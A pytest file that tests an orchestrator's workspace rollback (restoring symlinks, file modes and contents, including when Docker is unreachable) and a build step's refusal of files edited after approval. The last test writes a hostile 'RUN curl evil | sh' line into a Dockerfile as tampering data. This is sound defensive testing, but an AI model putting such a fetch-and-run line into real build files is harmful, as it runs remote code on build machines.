"""What rollback and build guarantee about the workspace, step by step on a real git tree."""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from moonmind.workflows.orchestrator.adapters import workspace as ws
from moonmind.workflows.orchestrator.enums import StepName
from moonmind.workflows.orchestrator.steps import STEP_FUNCTIONS, StepContext, StepFailed, preimages
from tests.support.steps import make_context, service_context

pytestmark = pytest.mark.docker


def _tree(root: Path) -> dict[str, str]:
    """Every entry under root, .git included: file bytes or a symlink's target."""
    seen = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            seen[rel] = "-> " + os.readlink(path)
        elif path.is_file():
            seen[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return seen


@pytest.fixture
def stack(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    (root / "app").mkdir(parents=True)
    (root / "app" / "Dockerfile").write_text("FROM scratch\n")
    (root / "app" / "base.txt").write_text("flask==3.0.3\n")
    (root / "app" / "requirements.txt").symlink_to("base.txt")
    (root / "app" / "run.sh").write_text("#!/bin/sh\nexec app\n")
    (root / "app" / "run.sh").chmod(0o755)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "add", "-A"], check=True)
    subprocess.run(
        ["git", "-C", str(root), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "s"],
        check=True,
    )
    return root


def _patched(stack: Path) -> StepContext:
    """A context whose patch replaced the symlink with a file and rewrote run.sh 0644."""
    ctx = make_context(
        stack,
        service=service_context(stack, project="restore-no-such-project"),
        artifacts=stack.parent / "artifacts",
    )
    before = ws.Snapshot.take(stack)
    preimages.save(ctx, before, ["app/requirements.txt", "app/run.sh"])
    (stack / "app" / "requirements.txt").unlink()
    (stack / "app" / "requirements.txt").write_text("flask==3.0.3\nrequests\n")
    (stack / "app" / "run.sh").write_text("#!/bin/sh\nexec other\n")
    (stack / "app" / "run.sh").chmod(0o644)
    return ctx


def test_rollback_brings_a_symlink_back_as_a_symlink_and_modes_back(stack: Path) -> None:
    original = _tree(stack)
    ctx = _patched(stack)
    assert _tree(stack) != original
    outcome = STEP_FUNCTIONS[StepName.ROLLBACK](ctx)
    assert _tree(stack) == original
    assert (stack / "app" / "requirements.txt").is_symlink()
    assert (stack / "app" / "run.sh").stat().st_mode & 0o777 == 0o755
    assert sorted(outcome.result["restored"]) == ["app/requirements.txt", "app/run.sh"]


def test_files_come_back_when_the_engine_is_gone_and_the_image_part_is_pending(
    stack: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    original = _tree(stack)
    ctx = _patched(stack)
    monkeypatch.setenv("DOCKER_HOST", f"unix://{stack.parent / 'no-docker.sock'}")
    with pytest.raises(StepFailed) as failed:
        STEP_FUNCTIONS[StepName.ROLLBACK](ctx)
    assert "image part is pending" in failed.value.message
    assert failed.value.result["image_pending"] is True
    assert _tree(stack) == original


def test_build_refuses_files_that_changed_after_the_patch(stack: Path) -> None:
    ctx = make_context(
        stack,
        service=service_context(stack, project="restore-no-such-project"),
        artifacts=stack.parent / "artifacts",
    )
    patched = stack / "app" / "Dockerfile"
    patched.write_text("FROM scratch\nENV A=1\n")
    sha = hashlib.sha256(patched.read_bytes()).hexdigest()
    ctx.plan.step(StepName.PATCH).result = {
        "files": [{"path": "app/Dockerfile", "change": "modified", "sha256": sha}]
    }
    ctx.approved_diff = "0" * 64
    patched.write_text("FROM scratch\nRUN curl evil | sh\n")  # edited after the approval
    with pytest.raises(StepFailed) as failed:
        STEP_FUNCTIONS[StepName.BUILD](ctx)
    assert "files changed after the patch was approved" in failed.value.message
    assert "app/Dockerfile" in failed.value.message
